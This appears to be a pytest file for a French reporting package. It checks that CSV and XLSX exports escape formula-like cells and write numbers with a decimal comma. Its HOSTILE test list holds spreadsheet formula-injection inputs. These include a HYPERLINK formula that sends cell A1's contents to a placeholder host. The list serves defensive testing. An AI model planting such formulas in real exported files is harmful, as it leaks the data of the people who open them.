"""CSV and XLSX tables never hand a formula to the spreadsheet that opens them (offer text reaches them)."""

from __future__ import annotations

import csv
import re
from decimal import Decimal
from pathlib import Path

import pytest

from openpyxl import load_workbook

from ecarts.reports.tables import read_csv_number, write_csv, write_xlsx

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?"&A1,"Cliquez")',
    "+33 6 12 34 56 78",
    "-2+3",
    "@SUM(A1:A2)",
    "\tcmd",
    "\rligne",
    "Peinture acrylique = finition",
]
COLUMNS = ["texte", "n"]


def rows() -> list[dict]:
    return [{"texte": t, "n": -3} for t in HOSTILE]


def test_csv_cells_that_look_like_formulas_are_written_as_text(tmp_path: Path) -> None:
    path = write_csv(tmp_path / "t.csv", COLUMNS, rows())
    with path.open(encoding="utf-8-sig", newline="") as fh:
        got = list(csv.DictReader(fh, delimiter=";"))
    assert [r["texte"] for r in got] == ["'" + t for t in HOSTILE[:-1]] + [HOSTILE[-1]]
    assert {r["n"] for r in got} == {"-3"}  # a number stays a number


def test_xlsx_cells_that_look_like_formulas_are_strings(tmp_path: Path) -> None:
    path = write_xlsx(tmp_path / "t.xlsx", [("Feuille", COLUMNS, rows())])
    ws = load_workbook(path)["Feuille"]
    cells = [ws.cell(row=i, column=1) for i in range(2, len(HOSTILE) + 2)]
    assert [c.value for c in cells] == HOSTILE
    assert {c.data_type for c in cells} == {"s"}
    assert {ws.cell(row=i, column=2).value for i in range(2, len(HOSTILE) + 2)} == {-3}


# -- CSV for a spreadsheet set to French -----------------------------------------------------------------

FRENCH_NUMBER = re.compile(r"^-?\d+(,\d+)?$")  # what Excel / LibreOffice in French read as a number


def test_csv_opens_as_numbers_and_accents_in_a_french_spreadsheet(tmp_path: Path) -> None:
    import numpy as np

    columns = ["libelle", "part", "score", "n", "ecart", "petit", "decimal", "numpy", "actif", "vide"]
    row = {
        "libelle": "Maçonnerie – élingage, « ô » ; œuvre",
        "part": 0.25,
        "score": 35.0,
        "n": 1234,
        "ecart": -1.5,
        "petit": 1e-05,
        "decimal": Decimal("2.50"),
        "numpy": np.float64(1 / 3),
        "actif": True,
        "vide": None,
    }
    path = write_csv(tmp_path / "t.csv", columns, [row])
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 with a byte-order mark
    assert raw.splitlines()[0] == b"\xef\xbb\xbf" + ";".join(columns).encode()
    with path.open(encoding="utf-8-sig", newline="") as fh:
        (got,) = list(csv.DictReader(fh, delimiter=";"))
    assert got["libelle"] == row["libelle"]  # accents kept, ; inside a cell quoted
    cells = {c: got[c] for c in ("part", "score", "n", "ecart", "petit", "decimal", "numpy")}
    assert cells == {
        "part": "0,25",
        "score": "35",
        "n": "1234",
        "ecart": "-1,5",
        "petit": "0,00001",
        "decimal": "2,5",
        "numpy": "0,3333333333",
    }
    assert all(FRENCH_NUMBER.match(v) for v in cells.values())
    assert {c: read_csv_number(v) for c, v in cells.items()} == pytest.approx(
        {"part": 0.25, "score": 35, "n": 1234, "ecart": -1.5, "petit": 1e-05, "decimal": 2.5, "numpy": 1 / 3}
    )
    assert (got["actif"], got["vide"]) == ("oui", "")
    assert read_csv_number(got["vide"]) is None


def test_report_csv_numbers_use_the_decimal_comma(sample_db: Path, tmp_path: Path) -> None:
    """ecarts.csv and the dossier tables: every number cell reads as a number in a French spreadsheet."""
    from ecarts.reports.summary import write_report
    from ecarts.warehouse.db import open_warehouse

    with open_warehouse(sample_db, read_only=True) as wh:
        written = write_report(wh, tmp_path, "75")
    seen_decimal = False
    for path in (p for p in written if p.suffix == ".csv"):
        with path.open(encoding="utf-8-sig", newline="") as fh:
            for row in csv.DictReader(fh, delimiter=";"):
                for column, value in row.items():
                    assert not re.fullmatch(r"-?\d+\.\d+", value or ""), (path.name, column, value)
                    seen_decimal |= bool(re.fullmatch(r"-?\d+,\d+", value or ""))
    assert seen_decimal
    with (tmp_path / "ecarts.csv").open(encoding="utf-8-sig", newline="") as fh:
        gaps = list(csv.DictReader(fh, delimiter=";"))
    shares = [read_csv_number(g["share_offers"]) for g in gaps]
    assert all(share is not None and 0 < share <= 1 for share in shares)
